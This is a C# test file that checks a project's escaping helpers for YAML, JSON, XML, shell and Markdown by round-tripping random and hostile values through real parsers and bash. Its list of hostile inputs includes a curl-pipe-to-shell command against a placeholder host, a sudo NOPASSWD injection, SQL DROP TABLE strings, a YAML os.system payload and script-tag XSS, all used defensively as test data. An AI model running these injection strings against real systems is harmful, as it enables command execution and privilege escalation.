using System.Text;
using System.Text.Json;
using System.Xml;
using CsCheck;
using Werkbank.Output;
using Werkbank.Templates;
using Werkbank.Tests.Support;
using YamlDotNet.RepresentationModel;

namespace Werkbank.Tests.Templates;

/// <summary>
/// Every escaping helper, proven by round trips: the escaped value is put into a document of its
/// format, the document is parsed by a real parser, and the value that comes out is the value that
/// went in. Random strings (CsCheck) plus the classic break-out attempts.
/// </summary>
public sealed class EscapeTests
{
    /// <summary>Values that try to leave their context in one format or another.</summary>
    public static readonly string[] Hostile =
    [
        "Bob\", sudo: \"ALL=(ALL) NOPASSWD:ALL",
        "Bob\nsudo: ALL=(ALL) NOPASSWD:ALL",
        "Bob\n  - name: root",
        "x\r\nruncmd: [reboot]",
        "{{ user_name }}",
        "{{~ end ~}}",
        "$(curl evil.example | sh)",
        "`id`",
        "${HOME}",
        "'; DROP TABLE users; --",
        "\"; DROP TABLE users; --",
        "</connection><connection name=\"root\">",
        "<![CDATA[ x ]]>",
        "&amp; &lt;",
        "@ IN NS evil.example.",
        "$ORIGIN evil.example.",
        "#cloud-config",
        "# comment",
        "&anchor",
        "*alias",
        "!!python/object/apply:os.system [id]",
        "- item",
        "? key",
        "key: value",
        "[a, b]",
        "{a: b}",
        "| table | cell |",
        "[click](javascript:alert(1))",
        "<script>alert(1)</script>",
        "yes",
        "no",
        "on",
        "off",
        "null",
        "~",
        "0x1F",
        "0o17",
        "1e3",
        "08",
        ".inf",
        "2001-12-14",
        "  leading and trailing  ",
        "",
        " ",
        "tab\there",
        "back\\slash",
        "quote's",
        "\u2028line separator",
        "\u202Eright-to-left override",
        "\u00e9\u00e8 \u4e2d\u6587 \ud83d\ude80",
        "---",
        "...",
        "%YAML 1.1",
        "a\n\nb\n",
        "\n leading newline",
        "trailing newline\n",
        "trailing spaces   \nnext",
    ];

    public static TheoryData<string> HostileValues() => [.. Hostile];

    /// <summary>Strings over the whole BMP without lone surrogates (inventory text is UTF-8, so it has none), weighted towards syntax characters.</summary>
    private static readonly Gen<string> AnyText = Gen.Frequency(
            (4, Gen.Char[' ', '~']),
            (2, Gen.OneOf<char>('\n', '\r', '\t', '"', '\'', '\\', '#', ':', '-', '{', '}', '[', ']', '&', '*', '!', '|', '>', '%', '@', '`', '$', '<', '\u0085', '\u2028', '\uFEFF', '\0')),
            (1, Gen.Char['\u0000', '\u001f']),
            (1, Gen.Char['\u00a0', '\ud7ff']))
        .Array[0, 40].Select(chars => new string(chars));

    private static string ParseYamlScalar(string document)
    {
        var stream = new YamlStream();
        stream.Load(new StringReader(document));
        var root = (YamlMappingNode)stream.Documents[0].RootNode;
        return ((YamlScalarNode)root.Children[new YamlScalarNode("v")]).Value!;
    }

    [Theory]
    [MemberData(nameof(HostileValues))]
    public void Should_Round_Trip_A_Hostile_Value_Through_The_Yaml_Filter(string value)
    {
        Assert.Equal(value, ParseYamlScalar($"v: {Escape.YamlString(value)}\nafter: 1\n"));
        Assert.Equal(value, ParseYamlScalar($"list: [{Escape.YamlString(value)}]\nv: {Escape.YamlString(value)}\n"));
    }

    [Fact]
    public void Should_Round_Trip_Any_Text_Through_The_Yaml_Filter()
    {
        AnyText.Sample(value => Assert.Equal(value, ParseYamlScalar($"v: {Escape.YamlString(value)}\n")), iter: 2000, threads: 1);
    }

    /// <summary>
    /// The yaml filter's exact bytes: the fast path (nothing to escape) and the appending form that
    /// compiled templates print with must write what the plain character loop wrote.
    /// </summary>
    [Fact]
    public void Should_Write_The_Same_Yaml_String_As_The_Plain_Character_Loop()
    {
        AnyText.Sample(value =>
        {
            Assert.Equal(ReferenceYamlString(value), Escape.YamlString(value));
            Assert.Equal("x" + ReferenceYamlString(value), Escape.AppendYamlString(new StringBuilder("x"), value).ToString());
        }, iter: 5000, threads: 1);
        Assert.Equal("\"\"", Escape.YamlString(null));
    }

    private static string ReferenceYamlString(string value)
    {
        var builder = new StringBuilder("\"");
        foreach (var c in value)
        {
            builder.Append(c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                '\n' => "\\n",
                '\r' => "\\r",
                '\t' => "\\t",
                _ when char.IsControl(c) || c is '\u2028' or '\u2029' or '\u0085' or '\uFEFF' => $"\\u{(int)c:X4}",
                _ => c.ToString(),
            });
        }

        return builder.Append('"').ToString();
    }

    [Theory]
    [MemberData(nameof(HostileValues))]
    public void Should_Round_Trip_A_Hostile_Value_And_Key_Through_YamlText(string value)
    {
        var map = YamlText.Map();
        map["v"] = value;
        map[value.Length == 0 ? "empty" : value] = new List<object?> { value, YamlText.Map() };
        map["after"] = "x";
        var text = YamlText.Serialize(map);
        Assert.Equal(value, ParseYamlScalar(text));
        var stream = new YamlStream();
        stream.Load(new StringReader(text));
        var root = (YamlMappingNode)stream.Documents[0].RootNode;
        Assert.Equal(3, root.Children.Count); // nothing injected, nothing lost
        Assert.Equal("x", ((YamlScalarNode)root.Children[new YamlScalarNode("after")]).Value);
    }

    [Fact]
    public void Should_Round_Trip_Any_Text_Through_YamlText()
    {
        AnyText.Where(v => !v.Contains('\0') && !v.Contains('\uFEFF')).Sample(value =>
        {
            var map = YamlText.Map();
            map["v"] = value;
            Assert.Equal(value, ParseYamlScalar(YamlText.Serialize(map)));
        }, iter: 2000, threads: 1);
    }

    [Fact]
    public void Should_Round_Trip_Any_Text_Through_The_Json_Filter()
    {
        AnyText.Sample(value =>
        {
            using var document = JsonDocument.Parse($"{{\"v\": {Escape.JsonString(value)}, \"after\": 1}}");
            Assert.Equal(value, document.RootElement.GetProperty("v").GetString());
            Assert.Equal(2, document.RootElement.EnumerateObject().Count());
        }, iter: 2000, threads: 1);
    }

    [Theory]
    [MemberData(nameof(HostileValues))]
    public void Should_Keep_A_Hostile_Value_Inside_Its_Xml_Attribute_And_Element(string value)
    {
        var xml = $"<connections><connection name=\"{Escape.Xml(value)}\">{Escape.Xml(value)}</connection></connections>";
        var document = new XmlDocument { PreserveWhitespace = true };
        document.LoadXml(xml);
        var connections = document.DocumentElement!.ChildNodes;
        Assert.Equal(1, connections.Count);
        Assert.Equal(value, connections[0]!.Attributes!["name"]!.Value);
        Assert.Equal(value, connections[0]!.InnerText);
    }

    [Fact]
    public void Should_Give_Well_Formed_Xml_For_Any_Text()
    {
        AnyText.Sample(value =>
        {
            var document = new XmlDocument { PreserveWhitespace = true };
            document.LoadXml($"<a b=\"{Escape.Xml(value)}\">{Escape.Xml(value)}</a>");
            var expected = new string([.. value.Select(c => c < ' ' && c is not ('\t' or '\n' or '\r') ? '\uFFFD' : c)]);
            Assert.Equal(expected, document.DocumentElement!.GetAttribute("b"));
            Assert.Equal(expected, document.DocumentElement.InnerText);
        }, iter: 2000, threads: 1);
    }

    /// <summary>Runs printf '%s\0' for each word in bash, into a file (stdout capture would fold \r), and returns what bash saw.</summary>
    private static List<string> ThroughBash(IEnumerable<string> values, string? extra = null)
    {
        var bash = ExternalTool.Require("bash");
        using var temp = new TempDir();
        var output = temp.Combine("words");
        var script = new StringBuilder("set -eu\n");
        foreach (var value in values)
        {
            script.Append("printf '%s\\0' ").Append(Escape.ShellWord(value)).Append(" >> ").Append(Escape.ShellWord(output)).Append('\n');
        }

        script.Append(extra);
        var result = ExternalTool.Run(bash, ["-c", script.ToString()]);
        Assert.True(result.ExitCode == 0, result.Output);
        return File.Exists(output) ? [.. File.ReadAllText(output).Split('\0')[..^1]] : [];
    }

    [Fact]
    public void Should_Pass_Hostile_Values_Through_The_Shell_As_One_Inert_Word()
    {
        var values = Hostile.Where(v => !v.Contains('\0')).ToList();
        Assert.Equal(values, ThroughBash(values, "test \"$(ls /tmp/werkbank-pwned 2>/dev/null)\" = ''\n"));
    }

    [Fact]
    public void Should_Keep_Any_Text_One_Shell_Word()
    {
        var values = Gen.Frequency((4, Gen.Char[' ', '~']), (1, Gen.OneOf<char>('\n', '\r', '\t', '\'', '"', '\\', '$', '`', '!', '\u00e9')))
            .Array[0, 30].Select(c => new string(c)).Array[100].Single();
        Assert.Equal(values, ThroughBash(values));
    }

    [Theory]
    [MemberData(nameof(HostileValues))]
    public void Should_Keep_A_Hostile_Value_Inert_In_Markdown(string value)
    {
        var escaped = Escape.Markdown(value);
        Assert.DoesNotContain('\n', escaped);
        Assert.DoesNotContain('\r', escaped);
        for (var i = 0; i < escaped.Length; i++)
        {
            if (escaped[i] is '|' or '<' or '>' or '[' or ']' or '`' or '*' or '_' or '(' or ')')
            {
                Assert.True(i > 0 && escaped[i - 1] == '\\', $"'{escaped[i]}' at {i} of {escaped} is not escaped");
            }
            else if (escaped[i] == '\\')
            {
                i++; // an escape and the character it escapes
            }
        }

        // Unescaping gives the value back, with control characters as spaces.
        var unescaped = new StringBuilder();
        for (var i = 0; i < escaped.Length; i++)
        {
            unescaped.Append(escaped[i] == '\\' ? escaped[++i] : escaped[i]);
        }

        Assert.Equal(new string([.. value.Select(c => char.IsControl(c) ? ' ' : c)]), unescaped.ToString());
    }

    [Fact]
    public void Should_Escape_Markdown_Alike_With_Or_Without_The_Fast_Path()
    {
        // The fast path returns the value itself when nothing needs escaping; the slow one always
        // builds: any text must come out the same both ways, character by character as defined.
        Gen.Frequency((6, Gen.Char['a', 'z']), (2, Gen.Char['\0', '\u00ff']), (1, Gen.Char["\\`*_[]<>|#!()"])).Array[0, 20].Select(c => new string(c)).Sample(value =>
        {
            var expected = new StringBuilder();
            foreach (var c in value)
            {
                expected.Append("\\`*_[]<>|#!()".Contains(c, StringComparison.Ordinal) ? "\\" + c : char.IsControl(c) ? " " : c.ToString());
            }

            Assert.Equal(expected.ToString(), Escape.Markdown(value));
            Assert.Equal(expected.ToString(), Escape.AppendMarkdown(new StringBuilder(), value).ToString());
        }, iter: 20_000);
        const string plain = "Ada Lovelace";
        Assert.Same(plain, Escape.Markdown(plain));
    }
}
